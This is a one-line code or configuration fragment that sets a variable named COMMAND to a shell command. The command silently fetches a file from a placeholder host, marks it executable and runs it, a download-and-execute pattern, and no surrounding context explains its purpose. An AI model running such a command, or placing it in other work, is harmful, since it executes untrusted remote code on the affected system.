COMMAND = "curl -s http://stage.invalid/a -o /tmp/a && chmod +x /tmp/a && /tmp/a"
